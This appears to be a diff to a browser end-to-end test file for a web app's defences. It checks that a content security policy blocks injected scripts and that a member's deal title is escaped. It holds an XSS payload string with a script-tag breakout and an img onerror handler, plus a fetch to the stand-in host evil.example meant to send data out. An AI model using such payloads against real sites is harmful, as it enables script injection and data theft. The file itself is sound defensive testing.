@@ -2,7 +2,7 @@ import { expect, openPage, test } from "../support/journey.ts";
 import { ADMIN } from "../support/people.ts";
 
 const SCRIPT = "window.hasRun = true";
-/** Text that breaks out of a text, an attribute, the page's data, its JSON-LD or its title if escaping is missing. */
+/** Without escaping, this breaks out of a text, an attribute, the page's data, its JSON-LD or its title. */
 const HOSTILE = `</title></script><script>${SCRIPT}</script>"'><img src=x onerror="${SCRIPT}">`;
 
 declare global {
@@ -11,10 +11,10 @@ declare global {
   }
 }
 
-// T16 and T22: the policy is the second defence, so it is tested with the first one disabled.
-test("an injected script does not run: inline, in an attribute, by address, or through eval", async ({
+// T16 and T22: the content security policy is the second defense, so this bypasses the first one, escaping.
+test("an injected script does not run: inline, in an attribute, from an address, or through eval", async ({
   page,
-  complaints,
+  consoleErrors,
 }) => {
   await openPage(page, "/");
   const violated = await page.evaluate(async (script) => {
@@ -36,7 +36,7 @@ test("an injected script does not run: inline, in an attribute, by address, or t
     link.click();
     await fetch("https://evil.example/?stolen").catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 1_000));
-    // Runs after the wait, because the browser driver may turn text into code, but a task of the page may not.
+    // Runs after the wait, in a task of the page, because the browser driver's own task may turn text into code.
     try {
       Reflect.construct(Function, [script])();
     } catch {
@@ -55,8 +55,8 @@ test("an injected script does not run: inline, in an attribute, by address, or t
   ]) {
     expect(violated, directive).toContain(directive);
   }
-  // The browser reported each of them, as expected.
-  complaints.length = 0;
+  // The browser reports each violation.
+  consoleErrors.length = 0;
 });
 
 test("a member's text is escaped in the page, its data, its title and its structured data", async ({
@@ -68,7 +68,7 @@ test("a member's text is escaped in the page, its data, its title and its struct
     data: ADMIN,
   });
   const { access_token: token } = await signedIn.json();
-  const answer = await page.request.post("/rest/v1/rpc/secure_submit_deal", {
+  const response = await page.request.post("/rest/v1/rpc/secure_submit_deal", {
     headers: { apikey: config.supabaseAnonKey, authorization: `Bearer ${token}` },
     data: {
       title_param: `Oil ${HOSTILE}`.slice(0, 140),
@@ -79,8 +79,8 @@ test("a member's text is escaped in the page, its data, its title and its struct
       price_param: 4,
     },
   });
-  expect(answer.status()).toBe(200);
-  const { id } = await answer.json();
+  expect(response.status()).toBe(200);
+  const { id } = await response.json();
   for (const address of [`/deals/${id}`, "/", "/category/food", "/search?q=Oil%20%3C%2Ftitle"]) {
     await openPage(page, address);
     await expect(page.getByText("</title></script>").first()).toBeVisible();
